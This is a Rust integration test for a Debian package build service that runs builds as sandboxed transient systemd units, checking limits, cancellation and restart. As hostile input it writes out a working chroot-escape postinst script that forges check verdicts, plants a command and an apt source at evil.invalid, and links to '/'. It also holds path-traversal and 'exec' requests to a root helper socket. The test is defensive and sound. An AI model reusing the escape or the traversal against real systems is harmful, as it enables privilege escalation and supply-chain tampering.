//! Builds as transient systemd units over D-Bus, inside a booted systemd container, the way the
//! package runs them: the daemon as the user buildbay, without capabilities, and the root
//! helper (the package's buildbay-helper.socket and .service) staging and starting each unit
//! and making the chroot. The journal holds each build's lines under its LogExtraFields,
//! `cancel` (StopUnit) leaves no process of the unit's cgroup alive, `systemctl restart
//! buildbay` during a build loses nothing, and MemoryMax and RuntimeMaxSec end a build cleanly
//! with the reason. Needs root and Debian's archive.

use crate::common::container::{self, Booted};
use crate::common::upload::*;
use crate::common::*;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

const UNSTABLE: &str = "bookworm-test-unstable";
const WAIT: Duration = Duration::from_secs(600);
const IMAGE: &str = "/var/lib/machines/buildbay-bookworm-amd64";

/// A bookworm tree with systemd, sbuild, schroot and machined, made once per machine.
fn systemd_tree() -> PathBuf {
    // mmdebstrap: debootstrap cannot resolve sbuild's virtual dependencies.
    container::tree(
        Path::new("/var/tmp/buildbay-tests/systemd-bookworm"),
        &[
            "mmdebstrap",
            "--variant=minbase",
            "--include=dbus,systemd,systemd-sysv,systemd-container,sbuild,schroot,debootstrap,ca-certificates",
            "bookworm",
        ],
    )
}

/// Every process id in a cgroup and its children.
fn cgroup_pids(cg: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![cg.to_owned()];
    while let Some(d) = stack.pop() {
        if let Ok(procs) = std::fs::read_to_string(d.join("cgroup.procs")) {
            out.extend(procs.lines().map(str::to_owned));
        }
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            if e.path().is_dir() {
                stack.push(e.path());
            }
        }
    }
    out
}

#[test]
fn builds_are_transient_systemd_units() {
    assert!(nix::unistd::geteuid().is_root(), "booting a systemd container needs root");
    let dir = tempfile::tempdir().expect("tempdir");
    // The chroot image, prepared on the host (tests/heavy/builder.rs does the same; it is kept).
    let seed = Instance::online("ed25519");
    seed.ok(&["setup", "--chroots", "bookworm:amd64"]);
    let tree = systemd_tree();
    // The package's files: the binary, the helper's units, its users and directories.
    std::fs::copy(bin(), tree.join("usr/bin/buildbay")).expect("copy buildbay");
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    for (from, to) in [
        ("units/buildbay-helper.socket", "usr/lib/systemd/system/buildbay-helper.socket"),
        ("units/buildbay-helper.service", "usr/lib/systemd/system/buildbay-helper.service"),
        ("units/buildbay.sysusers", "usr/lib/sysusers.d/buildbay.conf"),
        ("units/buildbay.tmpfiles", "usr/lib/tmpfiles.d/buildbay.conf"),
    ] {
        std::fs::copy(repo.join(from), tree.join(to)).unwrap_or_else(|e| panic!("{from}: {e}"));
    }
    for d in ["var/lib/buildbay", "var/lib/buildbay-builds", "var/cache/buildbay"] {
        let _ = std::fs::remove_dir_all(tree.join(d));
    }
    // Both read the build options (the helper sets the units' limits).
    let build_opts = |opts: &str| {
        std::fs::create_dir_all(tree.join("etc/default")).expect("mkdir");
        std::fs::write(tree.join("etc/default/buildbay"), format!("BUILDBAY_BUILD_OPTS=\"{opts}\"\n")).expect("write");
    };
    build_opts("--build-memory-max 400000000");
    let c = Booted::boot(&tree, &[IMAGE]);
    c.ok("systemd-sysusers && systemd-tmpfiles --create buildbay.conf && systemctl daemon-reload && systemctl start buildbay-helper.socket");
    assert_eq!(
        c.ok("stat -c '%U:%G %a' /var/lib/buildbay /var/lib/buildbay-builds /run/buildbay/helper.sock"),
        "buildbay:buildbay 750\nroot:buildbay 750\nroot:buildbay 660\n"
    );
    let (http, ftp) = (free_port(), free_port());
    let url = format!("http://127.0.0.1:{http}");
    let bb = "/usr/bin/buildbay --state /var/lib/buildbay";
    // As root on the daemon's state: the CLI works as its owner; the chroot is the helper's work.
    c.ok(&format!(
        "{bb} setup --identity ci --distributions bookworm:amd64 --repositories test:Default:bookworm --chroots bookworm:amd64"
    ));
    c.ok(&format!("BUILDBAY_PASSWORD=admin-password {bb} user add admin --role admin"));
    let owners = c.ok("find /var/lib/buildbay ! -user buildbay | head -5");
    assert!(owners.is_empty(), "state files that are not the daemon's: {owners}");
    let start_daemon = |extra: &str| {
        c.ok(&format!(
            "systemd-run --unit=buildbay --property=KillMode=mixed --property=User=buildbay --property=Group=buildbay \
             --property=NoNewPrivileges=yes --property=CapabilityBoundingSet= \
             -- {bb} serve --helper /run/buildbay/helper.sock --http 127.0.0.1:{http} --ftp 127.0.0.1:{ftp} --public-host 127.0.0.1 {extra}"
        ));
        let start = Instant::now();
        while run(Command::new("curl").args(["-sf", &format!("{url}/mini_buildd/api/status/")])).status.code()
            != Some(0)
        {
            assert!(start.elapsed() < Duration::from_secs(30), "buildbay did not come up in the container");
            std::thread::sleep(Duration::from_millis(200));
        }
    };
    start_daemon("--build-memory-max 400000000");
    let journal = c.ok("journalctl -u buildbay --no-pager");
    assert!(journal.contains("go through the buildbay helper"), "{journal}");
    let user = c.ok("stat -c %U /proc/$(systemctl show -P MainPID buildbay)");
    assert_eq!(user.trim(), "buildbay", "the daemon that speaks HTTP and FTP is not root");
    let security = c.ok("systemd-analyze security --no-pager buildbay-helper.service | tail -1");
    println!("systemd-analyze security buildbay-helper.service: {}", security.trim());

    // The helper's socket is hostile input too: only its fixed verbs, only paths below spool/,
    // only the daemon's uid (and root); others cannot even connect. (The helper may refuse a
    // peer before it has read its line: the client ignores SIGPIPE and reads the answer.)
    let ask = |user: &str, line: &str| -> String {
        let client = format!(
            "perl -MIO::Socket::UNIX -e '$SIG{{PIPE}} = \"IGNORE\"; $s = IO::Socket::UNIX->new(Peer => \"/run/buildbay/helper.sock\") or die \"connect: $!\\n\"; print $s \"$ARGV[0]\\n\"; print scalar <$s>' '{line}'"
        );
        let out = c.run(&format!("runuser -u {user} -- {client} 2>&1"));
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let outside = r#"{"verb":"build-start","bkey":"xx/1/20260101-000000-000000/amd64","slot":0,"request":"spool/../gnupg/archive-key.asc"}"#;
    let answer = ask("buildbay", outside);
    assert!(answer.contains("refused") && answer.contains("not a request below spool/"), "{answer}");
    let answer = ask("buildbay", r#"{"verb":"exec","command":"id"}"#);
    assert!(answer.contains("refused") && answer.contains("not a helper request"), "{answer}");
    let answer =
        ask("buildbay", r#"{"verb":"build-stop","bkey":"../../xx/1/20260101-000000-000000/amd64","canceled_by":null}"#);
    assert!(answer.contains("refused"), "{answer}");
    for user in ["nobody", "buildbay-build0"] {
        let answer = ask(user, r#"{"verb":"build-remove","bkey":"xx/1/20260101-000000-000000/amd64"}"#);
        assert!(answer.contains("Permission denied"), "{user} reached the helper: {answer}");
    }
    c.ok("id mallory >/dev/null 2>&1 || useradd --system --no-create-home --gid buildbay mallory");
    let answer = ask("mallory", r#"{"verb":"build-remove","bkey":"xx/1/20260101-000000-000000/amd64"}"#);
    assert!(
        answer.contains("may not ask the buildbay helper"),
        "a member of the group that is not the daemon: {answer}"
    );
    let ftp_at = format!("127.0.0.1:{ftp}");

    // A build: a transient unit with the journal fields; INSTALLED.
    let good = buildable_source(dir.path(), "sdhello", "1.0~test12+1", UNSTABLE, "true");
    let t = Instant::now();
    ftp_upload(&ftp_at, &good);
    let installed = wait_event(&url, "sdhello", "INSTALLED", WAIT);
    println!("sbuild in a transient unit: upload to INSTALLED {:.1} s", t.elapsed().as_secs_f64());
    assert_eq!(installed["extra"]["buildresults"]["amd64"], "successful", "{installed}");
    let lines = c.ok("journalctl BUILDBAY_SOURCE=sdhello BUILDBAY_ARCH=amd64 --no-pager -o cat");
    assert!(lines.contains("Status: successful") && lines.contains("dpkg-buildpackage"), "{lines}");
    let units = c.ok("journalctl BUILDBAY_SOURCE=sdhello -o export --no-pager | grep -a '^_SYSTEMD_UNIT=' | sort -u");
    assert!(units.contains("_SYSTEMD_UNIT=buildbay-build-sdhello_"), "{units}");
    assert!(c.ok("machinectl list-images --no-legend").contains("buildbay-bookworm-amd64"));

    // QA checks after an sbuild build: in a unit of their own (the build's unit forbids the
    // namespaces their machines need), planned afresh from the verified request. Hostile: a
    // build dependency's postinst (root in the build's schroot session) escapes the chroot
    // and rewrites the checks' plan to run a command of its own, forges a passing verdict and
    // `built`, replaces the check machines' script and the request's apt sources, and plants
    // a symlink where the checks' files go; none of it counts.
    let evil = r#"#!/bin/sh
set -e
if [ "$1" = configure ]; then
perl -e '
  mkdir "/esc"; chroot "/esc" or die "chroot: $!"; chdir ".." for 1..64; chroot "." or die "chroot back: $!";
  for my $plan (glob("/var/lib/buildbay-builds/*/*/*/*/.checks.json")) {
    (my $d = $plan) =~ s{/[.]checks[.]json$}{};
    open(my $f, ">", $plan) or next;
    print $f q([{"check":"Autopkgtest","mode":"errfail","argv":["systemd-run","--unit=pwned-by-build","touch","/run/pwned-by-build"]}]);
    close $f;
    open($f, ">", "$d/checks") and print $f "Autopkgtest: pass\n";
    open($f, ">", "$d/built") and print $f "success exited 0\n";
    open($f, ">", "$d/.nspawn-check") and print $f "exit 0\n";
    open($f, ">", "$d/.config/apt_sources.list") and print $f "deb [trusted=yes] http://evil.invalid/ ./\n";
    symlink("/", "$d/.checks");
    print "ESCAPED: rewrote $plan\n";
  }
' || echo "the escape failed: $?"
fi
#DEBHELPER#
"#;
    let dep = source_with_files(
        dir.path(),
        "sdevildep",
        "1.0~test12+1",
        UNSTABLE,
        "true",
        &["lintian-mode=disabled"],
        "all",
        &[("debian/postinst".to_owned(), evil.to_owned())],
    );
    ftp_upload(&ftp_at, &dep);
    wait_event(&url, "sdevildep", "INSTALLED", WAIT);
    let with_tests = |name: &str, test: &str, options: &[&str]| {
        let control = format!(
            "Source: {name}\nSection: misc\nPriority: optional\nMaintainer: Test User <test@example.org>\nBuild-Depends: debhelper-compat (= 13), sdevildep\nStandards-Version: 4.6.2\nRules-Requires-Root: no\n\nPackage: {name}\nArchitecture: all\nDepends: ${{misc:Depends}}\nDescription: buildbay test package\n Prints hello.\n"
        );
        let files = vec![
            ("debian/control".to_owned(), control),
            (
                "debian/tests/control".to_owned(),
                "Tests: smoke\nDepends: @\n\nTests: contained\nDepends: @\nRestrictions: isolation-container\n"
                    .to_owned(),
            ),
            ("debian/tests/smoke".to_owned(), format!("#!/bin/sh\n{test}\n")),
            ("debian/tests/contained".to_owned(), "#!/bin/sh\necho contained-test-ran\n".to_owned()),
        ];
        source_with_files(dir.path(), name, "1.0~test12+1", UNSTABLE, "true", options, "all", &files)
    };
    let t = Instant::now();
    ftp_upload(
        &ftp_at,
        &with_tests("sdqa", "sdqa | grep -q 'hello from sdqa'", &["autopkgtest-mode=errfail", "lintian-mode=ignore"]),
    );
    // While the checks run: their unit, with the machines' sandbox (namespaces allowed).
    let start = Instant::now();
    let check_unit = loop {
        let listed = c.ok("systemctl list-units --all --no-legend --plain 'buildbay-check-sdqa_*' || true");
        if let Some(u) = listed.split_whitespace().next().filter(|u| u.starts_with("buildbay-check-")) {
            break u.to_owned();
        }
        assert!(
            of(&events(&url), "sdqa", "BUILT").is_empty() && start.elapsed() < WAIT,
            "no checks unit while sdqa's checks ran: {}",
            c.ok("journalctl -u buildbay --no-pager | tail -30")
        );
        std::thread::sleep(Duration::from_millis(300));
    };
    for (prop, want) in [("ProtectSystem", "strict"), ("NoNewPrivileges", "yes"), ("RestrictNamespaces", "no")] {
        let got = c.ok(&format!("systemctl show -P {prop} '{check_unit}'"));
        assert_eq!(got.trim(), want, "{check_unit}: {prop}");
    }
    let installed = wait_event(&url, "sdqa", "INSTALLED", WAIT);
    println!(
        "sbuild, then autopkgtest errfail in a checks unit: upload to INSTALLED {:.1} s",
        t.elapsed().as_secs_f64()
    );
    let built = of(&events(&url), "sdqa", "BUILT").pop().expect("BUILT");
    let buildlog = built["extra"]["buildlog"].as_str().expect("buildlog").to_owned();
    let log = run(Command::new("curl").args(["-sf", &format!("{url}/mini_buildd/events-dir/{buildlog}")])).stdout;
    let log = String::from_utf8_lossy(&log).into_owned();
    for want in [
        "ESCAPED: rewrote",
        "in a unit of their own",
        "Autopkgtest (mode errfail) in a fresh machine",
        "contained-test-ran",
        "buildbay: Autopkgtest: pass",
    ] {
        assert!(log.contains(want), "{want:?} not in sdqa's log:\n{log}\n{installed}");
    }
    assert!(!log.contains("SKIP"), "a test was skipped:\n{log}");
    let units = c.ok("journalctl BUILDBAY_SOURCE=sdqa -o export --no-pager | grep -a '^_SYSTEMD_UNIT=' | sort -u");
    assert!(units.contains("=buildbay-build-sdqa_") && units.contains("=buildbay-check-sdqa_"), "{units}");
    // lintian in ignore mode ran after the result, in a check machine of the checks unit.
    let lintian = built["extra"]["lintian"].as_str().expect("the BUILT event names lintian's log").to_owned();
    let start = Instant::now();
    loop {
        let text = run(Command::new("curl").args(["-sf", &format!("{url}/mini_buildd/events-dir/{lintian}")])).stdout;
        if String::from_utf8_lossy(&text).contains("buildbay: Lintian: ") {
            break;
        }
        assert!(
            start.elapsed() < WAIT,
            "lintian never reported after sdqa's result: {}",
            String::from_utf8_lossy(&text)
        );
        std::thread::sleep(Duration::from_secs(1));
    }
    // A failing test with the forged verdict planted: FAILED, naming autopkgtest.
    ftp_upload(
        &ftp_at,
        &with_tests(
            "sdqafail",
            "echo this test fails >&2; exit 1",
            &["autopkgtest-mode=errfail", "lintian-mode=disabled"],
        ),
    );
    let failed = wait_event(&url, "sdqafail", "FAILED", WAIT);
    let why = failed["extra"]["error"]["detail"].as_str().unwrap_or_default();
    assert!(why.contains("Autopkgtest fail (mode errfail)"), "{failed}");
    let pwned = c.run("test -e /run/pwned-by-build || systemctl status pwned-by-build --no-pager");
    assert!(!pwned.status.success(), "the planted plan ran: {}", String::from_utf8_lossy(&pwned.stdout));

    // Cancel: StopUnit takes every process of the unit's cgroup.
    let long = buildable_source(dir.path(), "sdsleep", "1.0~test12+1", UNSTABLE, "sleep 6081");
    ftp_upload(&ftp_at, &long);
    let building = wait_event(&url, "sdsleep", "BUILDING", WAIT);
    let bkey = building["extra"]["bkey"].as_str().expect("bkey").to_owned();
    let unit = building["extra"]["unit"].as_str().expect("unit").to_owned();
    let status = c.ok(&format!("systemctl status --no-pager '{unit}' || true"));
    assert!(status.contains("sbuild"), "{status}");
    // The unit's sandbox (docs/security.md), and what systemd-analyze makes of it.
    for (prop, want) in [
        ("ProtectSystem", "strict"),
        ("ProtectHome", "yes"),
        ("PrivateTmp", "yes"),
        ("NoNewPrivileges", "yes"),
        ("ProtectProc", "invisible"),
        ("PrivateDevices", "yes"),
        ("RestrictNamespaces", "yes"),
    ] {
        let got = c.ok(&format!("systemctl show -P {prop} '{unit}'"));
        assert_eq!(got.trim(), want, "{unit}: {prop}");
    }
    let caps = c.ok(&format!("systemctl show -P CapabilityBoundingSet '{unit}'"));
    assert!(
        caps.contains("cap_sys_chroot") && !caps.contains("cap_net_admin") && !caps.contains("cap_sys_module"),
        "{caps}"
    );
    let security = c.ok(&format!("systemd-analyze security --no-pager '{unit}' || true"));
    let exposure = security.lines().find(|l| l.contains("Overall exposure level")).unwrap_or_default().to_owned();
    println!("systemd-analyze security of an sbuild build unit: {exposure}");
    assert!(!exposure.is_empty(), "{security}");
    let cg = c.ok(&format!("systemctl show -P ControlGroup '{unit}'")).trim().to_owned();
    let cg_host = c.cgroup_dir(&cg);
    let start = Instant::now();
    loop {
        let pids = cgroup_pids(&cg_host);
        let has_sleep = pids.iter().any(|p| {
            std::fs::read(format!("/proc/{p}/cmdline")).is_ok_and(|c| String::from_utf8_lossy(&c).contains("6081"))
        });
        if has_sleep {
            break;
        }
        assert!(start.elapsed() < WAIT, "the long build never reached its build step; cgroup {cg}: {pids:?}");
        std::thread::sleep(Duration::from_millis(300));
    }
    let before = cgroup_pids(&cg_host);
    let out = api_as(&url, "admin", &["cancel", &bkey]);
    assert!(out.status.success(), "cancel: {}", String::from_utf8_lossy(&out.stderr));
    let failed = wait_event(&url, "sdsleep", "FAILED", WAIT);
    assert!(failed["extra"]["error"]["detail"].as_str().unwrap_or_default().contains("canceled by admin"), "{failed}");
    let survivors: Vec<&String> = before.iter().filter(|p| Path::new(&format!("/proc/{p}")).exists()).collect();
    assert!(survivors.is_empty(), "processes of the canceled unit survived: {survivors:?} (of {before:?})");
    assert!(!cg_host.exists() || cgroup_pids(&cg_host).is_empty(), "the unit's cgroup still has processes");

    // Restart during a build: the unit is not the daemon's; the next daemon collects it.
    let slow = buildable_source(dir.path(), "sdslow", "1.0~test12+1", UNSTABLE, "sleep 10");
    ftp_upload(&ftp_at, &slow);
    wait_event(&url, "sdslow", "BUILDING", WAIT);
    c.ok("systemctl stop buildbay");
    build_opts("--build-memory-max 400000000 --build-runtime-max 60");
    c.ok("systemctl restart buildbay-helper.service");
    start_daemon("--build-memory-max 400000000 --build-runtime-max 60");
    let installed = wait_event(&url, "sdslow", "INSTALLED", WAIT);
    assert_eq!(installed["extra"]["buildresults"]["amd64"], "successful", "{installed}");
    assert_eq!(of(&events(&url), "sdslow", "BUILDING").len(), 1, "the build ran once");

    // MemoryMax: a build that wants 1 GB in a 400 MB unit is killed, with the reason.
    let hungry = buildable_source(
        dir.path(),
        "sdhungry",
        "1.0~test12+1",
        UNSTABLE,
        "perl -e '$$x = \"x\" x (1000*1024*1024); sleep 5'",
    );
    ftp_upload(&ftp_at, &hungry);
    let failed = wait_event(&url, "sdhungry", "FAILED", WAIT);
    assert!(
        failed["extra"]["error"]["detail"].as_str().unwrap_or_default().contains("MemoryMax=400000000"),
        "{failed}"
    );

    // RuntimeMaxSec (60 s for this daemon): systemd stops the unit, the result says why.
    let endless = buildable_source(dir.path(), "sdendless", "1.0~test12+1", UNSTABLE, "sleep 6082");
    ftp_upload(&ftp_at, &endless);
    let failed = wait_event(&url, "sdendless", "FAILED", WAIT);
    assert!(failed["extra"]["error"]["detail"].as_str().unwrap_or_default().contains("RuntimeMaxSec=60s"), "{failed}");

    // The nspawn backend, chosen by the distribution: an ephemeral machine that machinectl lists
    // while it builds, the build step as a user without network, the same kind of result.
    let out = api_as(
        &url,
        "admin",
        &["setup", "--update", "all", "--pca", "all", "--distributions", "bookworm:amd64:nspawn"],
    );
    assert!(out.status.success(), "setup nspawn: {}", String::from_utf8_lossy(&out.stderr));
    let probe = "echo buildbay-user: $$(id -un); echo buildbay-netifs: $$(grep -c : /proc/net/dev); sleep 8";
    let machine_pkg = buildable_source(dir.path(), "sdnspawn", "1.0~test12+1", UNSTABLE, probe);
    let t = Instant::now();
    ftp_upload(&ftp_at, &machine_pkg);
    let building = wait_event(&url, "sdnspawn", "BUILDING", WAIT);
    assert_eq!(building["extra"]["backend"], "nspawn", "{building}");
    let machine = building["extra"]["machine"].as_str().expect("machine").to_owned();
    let start = Instant::now();
    loop {
        let listed = c.ok("machinectl list --no-legend --no-pager");
        if listed.contains(&machine) {
            break;
        }
        let done = events(&url);
        assert!(
            of(&done, "sdnspawn", "BUILT").is_empty() && start.elapsed() < WAIT,
            "machinectl never listed {machine} while it built: {listed}\n{}",
            c.ok("journalctl BUILDBAY_SOURCE=sdnspawn --no-pager -o cat | tail -40")
        );
        std::thread::sleep(Duration::from_millis(300));
    }
    let installed = wait_event(&url, "sdnspawn", "INSTALLED", WAIT);
    println!("nspawn machine: upload to INSTALLED {:.1} s (8 s of it the package's sleep)", t.elapsed().as_secs_f64());
    assert_eq!(installed["extra"]["buildresults"]["amd64"], "successful", "{installed}");
    let log = c.ok("journalctl BUILDBAY_SOURCE=sdnspawn BUILDBAY_ARCH=amd64 --no-pager -o cat");
    for needle in ["ephemeral machine", "buildbay-user: builder", "buildbay-netifs: 1", "Status: successful"] {
        assert!(log.contains(needle), "the nspawn build's log lacks {needle:?}:\n{log}");
    }
    assert!(!c.ok("machinectl list --no-legend --no-pager").contains(&machine), "the machine outlived its build");
}
